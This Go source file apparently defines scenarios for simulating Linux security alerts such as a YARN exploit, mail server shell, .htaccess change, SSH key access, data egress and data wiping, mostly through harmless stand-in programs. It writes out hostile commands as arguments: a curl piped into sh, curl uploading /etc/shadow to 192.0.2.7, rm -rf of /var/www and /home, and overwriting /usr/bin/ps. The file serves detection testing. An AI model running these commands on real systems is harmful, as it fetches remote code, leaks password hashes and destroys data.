package simulate

import (
	"context"
	"errors"
	"fmt"
	"os"
)

var yarnExploited = Scenario{
	Name:      "yarn-exploited",
	Title:     "a container of Hadoop YARN fetches a script",
	AlertType: "VM_HadoopYarnExploit",
	Summary: "Runs a script below /tmp that lies where YARN keeps those of its containers, and in it a program " +
		"named curl whose output goes into a shell. " + harmless,
	Run: func(ctx context.Context, s *Stage) error {
		curl, err := s.StandIn("curl")
		if err != nil {
			return err
		}
		const place = "usercache/dr.who/appcache/application_1_0001/container_1_0001_01_000001/launch_container.sh"
		path, err := s.Write(place, "#!/bin/sh\n"+curl+" -s http://192.0.2.7/"+s.Token+" | sh\n")
		if err != nil {
			return err
		}
		return s.Exec(ctx, "sh", path)
	},
}

var mailServerExploited = Scenario{
	Name:      "mail-server-exploited",
	Title:     "a mail server starts a shell that looks around",
	AlertType: "VM_MailserverExploitation",
	Summary:   "A copy of the shell named exim4 starts a shell that runs id. No mail is accepted or sent.",
	Run: func(ctx context.Context, s *Stage) error {
		path, err := s.Copy("sh", s.Path("exim4"))
		if err != nil {
			return err
		}
		return s.Exec(ctx, path, "-c", `sh -c "id; true"; true`)
	},
}

var daemonCrashed = Scenario{
	Name:      "daemon-crashed",
	Title:     "a server program crashes",
	AlertType: "VM_AbnormalDaemonTermination",
	Summary:   "A copy of the shell named nginx ends itself by a signal, without a core file.",
	Run: func(ctx context.Context, s *Stage) error {
		path, err := s.Copy("sh", s.Path("nginx"))
		if err != nil {
			return err
		}
		return s.Exec(ctx, path, "-c", "ulimit -c 0; kill -SEGV $$")
	},
}

var phpCode = Scenario{
	Name:      "php-code",
	Title:     "PHP is given a command to run",
	AlertType: "VM_SuspectPhp",
	Summary:   "Runs a program named php with code that would run id. " + harmless,
	Run:       standIn("php", "-r", `system("id {token}");`),
}

var accessFileChanged = Scenario{
	Name:      "access-file-changed",
	Title:     "pictures become programs of the web server",
	AlertType: "VM_SuspectHtaccessFileAccess",
	Summary:   "Writes a file .htaccess with a handler into its own directory below /tmp, which no server serves.",
	Run: func(ctx context.Context, s *Stage) error {
		return s.Shell(ctx, `echo "AddHandler application/x-httpd-php .jpg" > `+s.Path(".htaccess"))
	},
}

var mixedCase = Scenario{
	Name:      "mixed-case",
	Title:     "a command is disguised by its letter case",
	AlertType: "VM_SuspectMixedCaseText",
	Summary:   "A shell puts the word wHoAmI into lower case and runs it.",
	Run: func(ctx context.Context, s *Stage) error {
		return s.Shell(ctx, `$(echo "wHoAmI" | tr "[:upper:]" "[:lower:]")`)
	},
}

var scriptInDisguise = Scenario{
	Name:      "script-in-disguise",
	Title:     "a shell runs a picture",
	AlertType: "VM_MismatchedScriptFeatures",
	Summary:   "Runs an empty script named logo.jpg.",
	Run: func(ctx context.Context, s *Stage) error {
		path, err := s.Write("logo.jpg", "#!/bin/sh\ntrue\n")
		if err != nil {
			return err
		}
		return s.Exec(ctx, "sh", path)
	},
}

var binaryTyped = Scenario{
	Name:      "binary-typed",
	Title:     "a program is typed in as text",
	AlertType: "VM_BinaryGeneratedFromCommandLine",
	Summary:   "A shell writes the first seven bytes of a program, which cannot run, to a file of its own below /tmp.",
	Run: func(ctx context.Context, s *Stage) error {
		return s.Shell(ctx, `printf '\177ELF\001\001\001' > `+s.Path("typed"))
	},
}

var rescueScript = Scenario{
	Name:      "rescue-script",
	Title:     "something is started in single-user mode",
	AlertType: "VM_NewSingleUserModeStartupScript",
	Summary:   "Makes a link to /dev/null in /etc/rc1.d and removes it. systemd does not look there.",
	Needs:     []Need{NeedRoot},
	Run: func(ctx context.Context, s *Stage) error {
		const dir = "/etc/rc1.d"
		if _, err := os.Stat(dir); errors.Is(err, os.ErrNotExist) {
			return skip("no directory %s", dir)
		}
		link := dir + "/S99" + s.Token
		if err := s.WillCreate(link); err != nil {
			return err
		}
		return s.Exec(ctx, "ln", "-s", "/dev/null", link)
	},
}

var programReplaced = Scenario{
	Name:      "program-replaced",
	Title:     "a program of the system is replaced",
	AlertType: "VM_OverridingCommonFiles",
	Summary:   "Runs a program named cp that is told to copy over ps(1). " + harmless,
	Run:       standIn("cp", "-f", "{dir}/ps", "/usr/bin/ps"),
}

var keysThinned = Scenario{
	Name:      "ssh-keys-thinned",
	Title:     "other people's keys are taken out",
	AlertType: "VM_SshKeyAccess",
	Summary:   "Deletes lines of an authorized_keys of its own below /tmp, which holds a comment.",
	Run: func(ctx context.Context, s *Stage) error {
		path, err := s.Write(".ssh/authorized_keys", "# nothing\n")
		if err != nil {
			return err
		}
		return s.Exec(ctx, "sed", "-i", "/nothing/d", path)
	},
}

var passwordByHash = Scenario{
	Name:      "password-by-hash",
	Title:     "the hash of a password is computed",
	AlertType: "VM_SuspectPasswordChange",
	Summary:   "Perl prints the hash of a random word. No account gets it.",
	Needs:     []Need{NeedProgram("perl")},
	Run: func(ctx context.Context, s *Stage) error {
		return s.Exec(ctx, "perl", "-e", fmt.Sprintf(`print crypt("%s", "ab")`, s.Token))
	},
}

var screenRecorded = Scenario{
	Name:      "screen-recorded",
	Title:     "the screen is recorded",
	AlertType: "VM_KnownLinuxScreenshotTool",
	Summary:   "Runs a program named scrot. " + harmless,
	Run:       standIn("scrot", "{dir}/screen.png"),
}

var dataSentOut = Scenario{
	Name:      "data-sent-out",
	Title:     "password hashes are sent out",
	AlertType: "VM_DataEgressArtifacts",
	Summary: "Runs a program named curl that is told to send /etc/shadow to an address of the documentation. " +
		harmless,
	Run: standIn("curl", "-s", "-F", "file=@/etc/shadow", "http://192.0.2.7/{token}"),
}

var dataWiped = Scenario{
	Name:      "data-wiped",
	Title:     "the web root and the homes are deleted",
	AlertType: "VM_FairwareMalware",
	Summary:   "Runs a program named rm that is told to delete the web root and the homes. " + harmless,
	Run:       standIn("rm", "-rf", "/var/www", "/home"),
}
